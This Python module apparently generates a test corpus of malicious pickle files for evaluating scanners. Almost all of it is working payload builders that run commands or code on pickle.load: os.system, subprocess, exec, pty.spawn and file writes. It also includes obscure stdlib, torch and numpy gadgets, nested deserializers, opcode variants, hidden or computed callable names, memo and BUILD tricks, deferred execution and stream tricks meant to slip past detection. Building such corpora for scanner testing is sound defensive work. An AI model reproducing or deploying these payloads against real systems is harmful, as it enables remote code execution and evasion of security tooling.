"""Malicious plain pickles, one technique per file, all loadable with ``pickle.load``.

Every builder returns the raw stream for a :class:`Payload`; ``build_pickle_attacks`` writes
them. Technique strings are ``family:detail`` so results can be grouped by family:

* ``reduce``   - a dangerous callable reached directly (``__reduce__`` as attackers write it)
* ``gadget``   - stdlib / torch / numpy callables missing from common denylists
* ``nested``   - a second deserializer or code object hidden inside the first pickle
* ``opcode``   - the same call through each protocol and each calling opcode
* ``lookup``   - the callable's name hidden: dotted qualnames, computed or escaped names
* ``memo``     - memo and BUILD tricks that confuse scanners tracking the stack naively
* ``deferred`` - code that runs after ``load`` returns (finalizers, threads, atexit)
* ``stream``   - stream-structure tricks: junk after STOP, broken tails, buried payloads

Streams hand-assembled with :class:`Asm` use only behaviour verified on CPython 3.11
(``verify_payloads.py`` re-checks each in a subprocess).
"""

from __future__ import annotations

import io
import marshal
import os
import pickle
import pty
import subprocess
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from .payloads import Call, Payload
from .pickle_asm import Asm, Literal
from .sample import Sample

PKL = "MLW-PKL"


Builder = Callable[[Payload], bytes]


@dataclass(frozen=True)
class Attack:
    name: str
    technique: str
    build: Builder
    tags: tuple[str, ...] = ()


ATTACKS: list[Attack] = []


def attack(name: str, technique: str, *tags: str) -> Callable[[Builder], None]:
    def register(fn: Builder) -> None:
        ATTACKS.append(Attack(name, technique, fn, tags))

    return register


def _dumps(obj: object, protocol: int = 4) -> bytes:
    return pickle.dumps(obj, protocol=protocol)


def _os_system(p: Payload, proto: int = 2) -> bytes:
    """The reference payload ``os.system(cmd)`` written with a text GLOBAL."""
    return bytes(Asm(proto).GLOBAL("os", "system").tuple(p.cmd).REDUCE().STOP())


# --------------------------------------------------------------------------------------
# reduce: the textbook callables
# --------------------------------------------------------------------------------------
@attack("reduce_os_system", "reduce:os.system")
def _(p: Payload) -> bytes:
    return _os_system(p)


@attack("reduce_subprocess_popen", "reduce:subprocess.Popen")
def _(p: Payload) -> bytes:
    return _dumps(Call(subprocess.Popen, p.argv))


@attack("reduce_subprocess_run", "reduce:subprocess.run")
def _(p: Payload) -> bytes:
    return _dumps(Call(subprocess.run, p.argv))


@attack("reduce_subprocess_check_output", "reduce:subprocess.check_output")
def _(p: Payload) -> bytes:
    return _dumps(Call(subprocess.check_output, p.argv))


@attack("reduce_builtins_exec", "reduce:builtins.exec")
def _(p: Payload) -> bytes:
    return _dumps(Call(exec, p.code))


@attack("reduce_builtins_eval", "reduce:builtins.eval")
def _(p: Payload) -> bytes:
    return _dumps(Call(eval, f"__import__('os').system({p.cmd!r})"))


@attack("reduce_compile_exec", "reduce:builtins.compile+exec")
def _(p: Payload) -> bytes:
    a = Asm(2).GLOBAL("builtins", "exec")
    a.GLOBAL("builtins", "compile").tuple(p.code, "<config>", "exec").REDUCE()
    return bytes(a.TUPLE1().REDUCE().STOP())


@attack("reduce_runpy_run_code", "reduce:runpy._run_code")
def _(p: Payload) -> bytes:
    return bytes(
        Asm(2).GLOBAL("runpy", "_run_code").STR(p.code).EMPTY_DICT().TUPLE2().REDUCE().STOP()
    )


@attack("reduce_pty_spawn", "reduce:pty.spawn")
def _(p: Payload) -> bytes:
    return _dumps(Call(pty.spawn, p.argv))


@attack("reduce_builtins_open", "reduce:builtins.open(w)", "file-write")
def _(p: Payload) -> bytes:
    return _dumps(Call(open, p.path, "w"))


@attack("reduce_methodcaller_write", "reduce:operator.methodcaller(write)", "file-write")
def _(p: Payload) -> bytes:
    # methodcaller('write', ...)(open(marker, 'w')): the write is a call of a call.
    a = Asm(4).call("operator", "methodcaller", "write", "owned\n")
    return bytes(a.call("builtins", "open", p.path, "w").TUPLE1().REDUCE().STOP())


@attack("reduce_shutil_copyfile", "reduce:shutil.copyfile", "file-write")
def _(p: Payload) -> bytes:
    return bytes(Asm(4).call("shutil", "copyfile", "/dev/null", p.path).STOP())


@attack("reduce_pathlib_write_text", "reduce:pathlib.Path.write_text", "file-write")
def _(p: Payload) -> bytes:
    a = Asm(4).sglobal("pathlib", "Path.write_text").call("pathlib", "PosixPath", p.path)
    return bytes(a.STR("owned").TUPLE2().REDUCE().STOP())


@attack("reduce_ctypes_libc_system", "reduce:ctypes.CDLL(None).system")
def _(p: Payload) -> bytes:
    a = Asm(4).sglobal("builtins", "getattr").call("ctypes", "CDLL", None).STR("system")
    return bytes(a.TUPLE2().REDUCE().tuple(p.cmd.encode()).REDUCE().STOP())


# --------------------------------------------------------------------------------------
# gadget: callables that run commands or code but are absent from many denylists
# --------------------------------------------------------------------------------------
def _simple(module: str, name: str, args: Callable[[Payload], tuple[Literal, ...]]) -> Builder:
    """``module.name(*args(payload))`` as a protocol 4 STACK_GLOBAL + REDUCE."""

    def build(p: Payload) -> bytes:
        return bytes(Asm(4).call(module, name, *args(p)).STOP())

    return build


for _name, _mod, _fn, _args in [
    ("gadget_torch_collect_env_run", "torch.utils.collect_env", "run", lambda p: (p.cmd,)),
    (
        "gadget_multiprocessing_spawnv_passfds",
        "multiprocessing.util",
        "spawnv_passfds",
        lambda p: (b"/bin/sh", [b"/bin/sh", b"-c", p.cmd.encode()], ()),
    ),
    ("gadget_pydoc_pipepager", "pydoc", "pipepager", lambda p: ("help text", p.cmd)),
    # tempfilepager appends the temp file name; '#' turns it into a shell comment.
    ("gadget_pydoc_tempfilepager", "pydoc", "tempfilepager", lambda p: ("x", p.cmd + " #")),
    ("gadget_cprofile_run", "cProfile", "run", lambda p: (p.code,)),
    ("gadget_distutils_spawn", "distutils.spawn", "spawn", lambda p: (p.argv,)),
    ("gadget_numpy_runstring", "numpy.testing._private.utils", "runstring", lambda p: (p.code, {})),
    (
        "gadget_torch_jit_execwrapper",
        "torch.jit.unsupported_tensor_ops",
        "execWrapper",
        lambda p: (p.code, {}, {}),
    ),
]:
    attack(_name, f"gadget:{_mod}.{_fn}")(_simple(_mod, _fn, _args))


def _method_on_new(module: str, cls: str, method: str, arg: Callable[[Payload], str]) -> Builder:
    """``Cls.method(Cls(), arg)``: an unbound method reached by a protocol 4 qualname."""

    def build(p: Payload) -> bytes:
        a = Asm(4).sglobal(module, f"{cls}.{method}").sglobal(module, cls).EMPTY_TUPLE().REDUCE()
        return bytes(a.STR(arg(p)).TUPLE2().REDUCE().STOP())

    return build


attack("gadget_code_interpreter_runsource", "gadget:code.InteractiveInterpreter.runsource")(
    _method_on_new("code", "InteractiveInterpreter", "runsource", lambda p: p.code)
)
attack("gadget_bdb_run", "gadget:bdb.Bdb.run")(
    _method_on_new("bdb", "Bdb", "run", lambda p: p.code)
)
attack("gadget_trace_run", "gadget:trace.Trace.run")(
    _method_on_new("trace", "Trace", "run", lambda p: p.code)
)


@attack("gadget_timeit", "gadget:timeit.timeit")
def _(p: Payload) -> bytes:
    # timeit(stmt, setup, timer, number): the statement is compiled and run `number` times.
    a = Asm(4).sglobal("timeit", "timeit").MARK().STR(p.code).STR("pass")
    return bytes(a.sglobal("time", "perf_counter").BININT(1).TUPLE().REDUCE().STOP())


@attack("gadget_asyncio_subprocess_shell", "gadget:asyncio.run(create_subprocess_shell)")
def _(p: Payload) -> bytes:
    a = Asm(4).sglobal("asyncio", "run")
    a.call("asyncio.subprocess", "create_subprocess_shell", p.cmd)
    return bytes(a.TUPLE1().REDUCE().STOP())


@attack("gadget_mailcap_findmatch", "gadget:mailcap.findmatch")
def _(p: Payload) -> bytes:
    # A mailcap entry's "test" field is run through os.system while matching.
    a = Asm(4).sglobal("mailcap", "findmatch").EMPTY_DICT().STR("text/plain")
    a.MARK().EMPTY_DICT().STR("view").STR("true").SETITEM().STR("test").STR(p.cmd).SETITEM()
    return bytes(a.LIST().SETITEM().STR("text/plain").TUPLE2().REDUCE().STOP())


@attack("gadget_logging_dictconfig_factory", "gadget:logging.config.dictConfig('()')")
def _(p: Payload) -> bytes:
    # dictConfig imports the dotted name under '()' and calls it with the other keys:
    # no dangerous global appears as an opcode, only as a string.
    a = Asm(4).sglobal("logging.config", "dictConfig").EMPTY_DICT().MARK()
    a.STR("version").BININT(1).STR("filters").EMPTY_DICT().STR("f").EMPTY_DICT().MARK()
    a.STR("()").STR("subprocess.check_call").STR("args").push(p.argv)
    return bytes(a.SETITEMS().SETITEM().SETITEMS().TUPLE1().REDUCE().STOP())


@attack("gadget_copyreg_reconstructor_filehandler", "gadget:copyreg._reconstructor", "file-write")
def _(p: Payload) -> bytes:
    # _reconstructor(cls, base, state) runs base.__init__(obj, state): FileHandler opens it.
    a = Asm(2).GLOBAL("copyreg", "_reconstructor")
    a.GLOBAL("logging", "FileHandler").GLOBAL("logging", "FileHandler").STR(p.path)
    return bytes(a.TUPLE3().REDUCE().STOP())


@attack("gadget_list_map", "gadget:builtins.list(map(os.system))")
def _(p: Payload) -> bytes:
    # The REDUCE target is ``list``; the dangerous call happens inside map's iteration.
    a = Asm(4).sglobal("builtins", "list").sglobal("builtins", "map").sglobal("os", "system")
    return bytes(a.push([p.cmd]).TUPLE2().REDUCE().TUPLE1().REDUCE().STOP())


# --------------------------------------------------------------------------------------
# nested: a second deserializer or a code object inside the pickle
# --------------------------------------------------------------------------------------
@attack("nested_zlib_pickle_loads", "nested:pickle.loads(zlib.decompress)")
def _(p: Payload) -> bytes:
    a = Asm(4).sglobal("pickle", "loads").call("zlib", "decompress", zlib.compress(_os_system(p)))
    return bytes(a.TUPLE1().REDUCE().STOP())


@attack("nested_codecs_pickle_loads", "nested:_pickle.loads(_codecs.encode)")
def _(p: Payload) -> bytes:
    # Protocol-2 style bytes: a latin-1 str turned back into bytes by _codecs.encode.
    a = Asm(2).GLOBAL("_pickle", "loads").GLOBAL("_codecs", "encode")
    a.tuple(_os_system(p).decode("latin-1"), "latin1").REDUCE()
    return bytes(a.TUPLE1().REDUCE().STOP())


@attack("nested_marshal_functiontype", "nested:marshal.loads+types.FunctionType")
def _(p: Payload) -> bytes:
    code = marshal.dumps(compile(p.code, "<model>", "exec"))
    a = Asm(4).sglobal("types", "FunctionType").call("marshal", "loads", code).EMPTY_DICT()
    return bytes(a.TUPLE2().REDUCE().EMPTY_TUPLE().REDUCE().STOP())


@attack("nested_numpy_read_array", "nested:numpy.lib.format.read_array(allow_pickle)")
def _(p: Payload) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    npy = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + _os_system(p)
    a = Asm(4).sglobal("numpy.lib.format", "read_array").call("_io", "BytesIO", npy)
    return bytes(a.NEWTRUE().TUPLE2().REDUCE().STOP())


@attack("nested_torch_load_partial_kwargs", "nested:torch.load(weights_only=False) via partial")
def _(p: Payload) -> bytes:
    # functools.partial built with NEWOBJ_EX carries the keyword argument torch.load needs.
    inner = io.BytesIO()
    _torch_save(Call(os.system, p.cmd), inner)
    a = Asm(4).sglobal("functools", "partial").sglobal("torch", "load").TUPLE1()
    a.EMPTY_DICT().STR("weights_only").NEWFALSE().SETITEM().NEWOBJ_EX()
    return bytes(a.call("_io", "BytesIO", inner.getvalue()).TUPLE1().REDUCE().STOP())


@attack("nested_torch_basichandlers", "nested:torch datapipes decoder.basichandlers")
def _(p: Payload) -> bytes:
    mod = "torch.utils.data.datapipes.utils.decoder"
    return bytes(Asm(4).call(mod, "basichandlers", "pickle", _os_system(p)).STOP())


def _torch_save(obj: object, f: io.BytesIO) -> None:
    import torch  # local: torch import is slow and only some samples need it

    torch.save(obj, f)


# --------------------------------------------------------------------------------------
# opcode: one payload through every protocol and calling opcode
# --------------------------------------------------------------------------------------
for _proto in range(6):
    # pickle names os.system by its defining module: these streams say ``posix system``.
    attack(f"opcode_protocol{_proto}", f"opcode:protocol-{_proto} dump of posix.system")(
        lambda p, proto=_proto: _dumps(Call(os.system, p.cmd), proto)
    )


@attack("opcode_inst", "opcode:INST")
def _(p: Payload) -> bytes:
    # INST imports and calls in one opcode: no REDUCE anywhere.
    return bytes(Asm().MARK().STRING(p.cmd).INST("os", "system").STOP())


@attack("opcode_obj", "opcode:OBJ")
def _(p: Payload) -> bytes:
    return bytes(Asm(1).MARK().GLOBAL("os", "system").STRING(p.cmd).OBJ().STOP())


@attack("opcode_newobj_partial", "opcode:NEWOBJ(functools.partial)")
def _(p: Payload) -> bytes:
    a = Asm(2).GLOBAL("functools", "partial").GLOBAL("os", "system").STR(p.cmd).TUPLE2()
    return bytes(a.NEWOBJ().EMPTY_TUPLE().REDUCE().STOP())


@attack("opcode_newobj_ex_kwargs", "opcode:NEWOBJ_EX(partial, shell=True)")
def _(p: Payload) -> bytes:
    a = Asm(4).sglobal("functools", "partial").sglobal("subprocess", "run").TUPLE1()
    a.EMPTY_DICT().STR("shell").NEWTRUE().SETITEM().NEWOBJ_EX()
    return bytes(a.tuple(p.cmd).REDUCE().STOP())


@attack("opcode_build_setstate", "opcode:BUILD-only via instance __setstate__")
def _(p: Payload) -> bytes:
    # BUILD looks __setstate__ up on the instance: plant os.system there with a first BUILD,
    # a second BUILD then calls it with the command. No REDUCE, INST or OBJ at all.
    a = Asm(4).sglobal("types", "SimpleNamespace").EMPTY_TUPLE().NEWOBJ()
    a.EMPTY_DICT().STR("__setstate__").sglobal("os", "system").SETITEM().BUILD()
    return bytes(a.STR(p.cmd).BUILD().STOP())


@attack("opcode_ext1_copyreg", "opcode:EXT1 after copyreg.add_extension")
def _(p: Payload) -> bytes:
    # Register ('os', 'system') as extension code 0xF0, then import it with EXT1:
    # the import opcode carries only a number.
    a = Asm(2).call("copyreg", "add_extension", "os", "system", 0xF0).POP()
    return bytes(a.EXT1(0xF0).tuple(p.cmd).REDUCE().STOP())


# --------------------------------------------------------------------------------------
# lookup: the callable's name is not written plainly
# --------------------------------------------------------------------------------------
@attack("lookup_dotted_torch_os_system", "lookup:dotted qualname torch:serialization.os.system")
def _(p: Payload) -> bytes:
    # Protocol >= 4 resolves dotted names attribute by attribute from an allowed module.
    return bytes(Asm(4).sglobal("torch", "serialization.os.system").tuple(p.cmd).REDUCE().STOP())


@attack("lookup_dotted_text_global", "lookup:dotted qualname in text GLOBAL (pathlib os.system)")
def _(p: Payload) -> bytes:
    return bytes(Asm(4).GLOBAL("pathlib", "os.system").tuple(p.cmd).REDUCE().STOP())


@attack("lookup_getattr_import", "lookup:getattr(__import__('os'), 'system')")
def _(p: Payload) -> bytes:
    a = Asm(4).sglobal("builtins", "getattr").call("builtins", "__import__", "os")
    return bytes(a.STR("system").TUPLE2().REDUCE().tuple(p.cmd).REDUCE().STOP())


@attack("lookup_importlib_import_module", "lookup:importlib.import_module+getattr")
def _(p: Payload) -> bytes:
    a = Asm(4).sglobal("builtins", "getattr").call("importlib", "import_module", "os")
    return bytes(a.STR("system").TUPLE2().REDUCE().tuple(p.cmd).REDUCE().STOP())


@attack("lookup_operator_attrgetter", "lookup:operator.attrgetter")
def _(p: Payload) -> bytes:
    a = Asm(4).call("operator", "attrgetter", "system").call("builtins", "__import__", "os")
    return bytes(a.TUPLE1().REDUCE().tuple(p.cmd).REDUCE().STOP())


@attack("lookup_pkgutil_resolve_name", "lookup:pkgutil.resolve_name")
def _(p: Payload) -> bytes:
    return bytes(Asm(4).call("pkgutil", "resolve_name", "os:system").tuple(p.cmd).REDUCE().STOP())


@attack("lookup_module_builtins_dict", "lookup:dict.get(numpy.__builtins__, 'exec')")
def _(p: Payload) -> bytes:
    # Every imported module carries __builtins__ (a dict): a 'safe' module leaks exec.
    a = Asm(4).sglobal("builtins", "dict.get").sglobal("numpy", "__builtins__").STR("exec")
    return bytes(a.TUPLE2().REDUCE().tuple(p.code).REDUCE().STOP())


@attack("lookup_function_globals", "lookup:json.dumps.__globals__ introspection")
def _(p: Payload) -> bytes:
    a = Asm(4).sglobal("builtins", "dict.get").sglobal("builtins", "dict.get")
    a.sglobal("json", "dumps.__globals__").STR("__builtins__").TUPLE2().REDUCE()
    return bytes(a.STR("exec").TUPLE2().REDUCE().tuple(p.code).REDUCE().STOP())


@attack("lookup_sys_modules", "lookup:sys.modules reached as pickle.sys.modules")
def _(p: Payload) -> bytes:
    a = Asm(4).sglobal("builtins", "getattr").sglobal("builtins", "dict.get")
    a.sglobal("pickle", "sys.modules").STR("os").TUPLE2().REDUCE()
    return bytes(a.STR("system").TUPLE2().REDUCE().tuple(p.cmd).REDUCE().STOP())


@attack("lookup_computed_names", "lookup:STACK_GLOBAL operands computed (str.join, rot13)")
def _(p: Payload) -> bytes:
    # Neither 'os' nor 'system' exists as a literal: both are produced by calls at load time.
    a = Asm(4).sglobal("builtins", "str.join").STR("").push(["o", "s"]).TUPLE2().REDUCE()
    a.sglobal("codecs", "decode").tuple("flfgrz", "rot13").REDUCE()
    return bytes(a.STACK_GLOBAL().tuple(p.cmd).REDUCE().STOP())


@attack("lookup_escaped_unicode", "lookup:\\uXXXX-escaped protocol-0 UNICODE names")
def _(p: Payload) -> bytes:
    a = Asm().UNICODE_ESCAPED("os").UNICODE_ESCAPED("system").STACK_GLOBAL()
    return bytes(a.MARK().UNICODE(p.cmd).TUPLE().REDUCE().STOP())


@attack("lookup_string_opcode_operands", "lookup:STACK_GLOBAL from protocol-0 STRING opcodes")
def _(p: Payload) -> bytes:
    a = Asm().STRING("os").STRING("system").STACK_GLOBAL()
    return bytes(a.MARK().STRING(p.cmd).TUPLE().REDUCE().STOP())


# --------------------------------------------------------------------------------------
# memo: memo and BUILD tricks
# --------------------------------------------------------------------------------------
@attack("memo_names_reused", "memo:STACK_GLOBAL names from MEMOIZE/BINGET")
def _(p: Payload) -> bytes:
    # The names are defined early inside harmless-looking data, fetched from the memo later.
    a = Asm(4).EMPTY_DICT().MARK().STR("backend").STR("os").MEMOIZE()
    a.STR("activation").STR("system").MEMOIZE().SETITEMS().POP()
    return bytes(a.BINGET(0).BINGET(1).STACK_GLOBAL().tuple(p.cmd).REDUCE().STOP())


@attack("memo_slot_overwrite", "memo:memo slot rebound (PUT twice to one index)")
def _(p: Payload) -> bytes:
    a = Asm(4).STR("json").BINPUT(0).STR("dumps").BINPUT(1).POP().POP()
    a.STR("os").BINPUT(0).STR("system").BINPUT(1).POP().POP()
    return bytes(a.BINGET(0).BINGET(1).STACK_GLOBAL().tuple(p.cmd).REDUCE().STOP())


@attack("memo_decoy_strings_popped", "memo:decoy strings pushed then popped before STACK_GLOBAL")
def _(p: Payload) -> bytes:
    a = Asm(4).STR("os").STR("system").STR("collections").STR("OrderedDict").POP().POP()
    return bytes(a.STACK_GLOBAL().tuple(p.cmd).REDUCE().STOP())


@attack("memo_callable_fetched_late", "memo:callable memoized, used after unrelated data")
def _(p: Payload) -> bytes:
    a = Asm(2).GLOBAL("os", "system").LONG_BINPUT(7).POP()
    a.EMPTY_LIST().MARK()
    for i in range(200):
        a.push(f"layer{i}.weight")
    a.APPENDS().POP()
    return bytes(a.LONG_BINGET(7).tuple(p.cmd).REDUCE().STOP())


@attack("memo_build_function_attrs", "memo:BUILD sets attrs on a function, read back by qualname")
def _(p: Payload) -> bytes:
    # BUILD's slot-state branch setattr()s json.dumps.mlw_a='os', .mlw_b='system'; dotted
    # GLOBALs read them back, and the strings reach STACK_GLOBAL only through the memo.
    a = Asm(4).sglobal("json", "dumps").NONE().EMPTY_DICT()
    a.STR("mlw_a").STR("os").SETITEM().STR("mlw_b").STR("system").SETITEM()
    a.TUPLE2().BUILD().POP()
    a.GLOBAL("json", "dumps.mlw_a").MEMOIZE().GLOBAL("json", "dumps.mlw_b").MEMOIZE()
    a.POP().POP().BINGET(0).BINGET(1).STACK_GLOBAL()
    return bytes(a.tuple(p.cmd).REDUCE().STOP())


@attack("memo_build_sys_modules_slotstate", "memo:BUILD slotstate=sys.modules poisons a function")
def _(p: Payload) -> bytes:
    # Every loaded module becomes an attribute of json.dumps, so 'json dumps.os.system'
    # resolves to os.system although no import of os is written.
    a = Asm(4).sglobal("json", "dumps").NONE().sglobal("pickle", "sys.modules").TUPLE2()
    a.BUILD().POP().sglobal("json", "dumps.os.system")
    return bytes(a.tuple(p.cmd).REDUCE().STOP())


@attack("memo_build_module_attr", "memo:BUILD overwrites a module attribute, then calls it")
def _(p: Payload) -> bytes:
    # BUILD on a module object updates its __dict__: json.decoder.mlw_hook = os.system.
    a = Asm(4).sglobal("json", "decoder").EMPTY_DICT().STR("mlw_hook").sglobal("os", "system")
    a.SETITEM().BUILD().POP().sglobal("json", "decoder.mlw_hook")
    return bytes(a.tuple(p.cmd).REDUCE().STOP())


# --------------------------------------------------------------------------------------
# deferred: the call happens after (or outside) the REDUCE that scanners look at
# --------------------------------------------------------------------------------------
@attack("deferred_atexit", "deferred:atexit.register(os.system)")
def _(p: Payload) -> bytes:
    a = Asm(4).sglobal("atexit", "register").sglobal("os", "system").STR(p.cmd)
    return bytes(a.TUPLE2().REDUCE().STOP())


@attack("deferred_thread", "deferred:threading.Thread(target=os.system).start")
def _(p: Payload) -> bytes:
    a = Asm(4).call("operator", "methodcaller", "start")
    a.sglobal("threading", "Thread").MARK().NONE().sglobal("os", "system").NONE().tuple(p.cmd)
    return bytes(a.TUPLE().REDUCE().TUPLE1().REDUCE().STOP())


@attack("deferred_weakref_finalize", "deferred:weakref.finalize")
def _(p: Payload) -> bytes:
    # The referent (an empty set) dies as soon as loading ends and fires the callback.
    a = Asm(4).sglobal("weakref", "finalize").sglobal("builtins", "set").EMPTY_TUPLE().REDUCE()
    return bytes(a.sglobal("os", "system").STR(p.cmd).TUPLE3().REDUCE().STOP())


@attack("deferred_type_del_finalizer", "deferred:type() class with __del__=Path.touch")
def _(p: Payload) -> bytes:
    # A class made at load time whose finalizer is pathlib's touch; the instance is dropped.
    a = Asm(4).sglobal("builtins", "type").STR("Config").sglobal("pathlib", "PosixPath").TUPLE1()
    a.EMPTY_DICT().STR("__del__").sglobal("pathlib", "Path.touch").SETITEM().TUPLE3().REDUCE()
    return bytes(a.tuple(p.path).REDUCE().POP().NONE().STOP())


# --------------------------------------------------------------------------------------
# stream: structure tricks
# --------------------------------------------------------------------------------------
@attack("stream_junk_after_stop", "stream:junk bytes and a second pickle after STOP")
def _(p: Payload) -> bytes:
    return _os_system(p) + b"\x00\xffJUNK" * 64 + _dumps({"ok": True})


@attack("stream_broken_after_payload", "stream:payload then invalid opcode, no STOP")
def _(p: Payload) -> bytes:
    # load() raises *after* the call ran; scanners that give up on errors see nothing.
    return bytes(Asm(4).call("os", "system", p.cmd).raw(b"\xff\xfe not a pickle"))


@attack("stream_payload_after_large_data", "stream:payload after 2 MB of benign data")
def _(p: Payload) -> bytes:
    a = Asm(4).EMPTY_LIST().MARK().BINBYTES(bytes(2 * 1024 * 1024)).APPENDS()
    return bytes(a.GLOBAL("os", "system").tuple(p.cmd).REDUCE().APPEND().STOP())


@attack("stream_nested_checkpoint_dict", "stream:payload deep inside a checkpoint-like dict")
def _(p: Payload) -> bytes:
    ckpt = {
        "epoch": 12,
        "model": {f"encoder.layer{i}.weight": [0.1] * 8 for i in range(16)},
        "optimizer": {"lr": 1e-3, "betas": (0.9, 0.999)},
        "callbacks": [{"name": "early_stop", "hook": Call(os.system, p.cmd)}],
    }
    return _dumps(ckpt, 2)


def build_pickle_attacks(out_dir: Path, marker: Path) -> list[Sample]:
    payload = Payload(marker)
    samples = []
    for a in ATTACKS:
        path = out_dir / f"{a.name}.pkl"
        path.write_bytes(a.build(payload))
        tags = (*a.tags, "loader:pickle")
        samples.append(Sample(a.name, path, "malicious", a.technique, PKL, tags))
    return samples
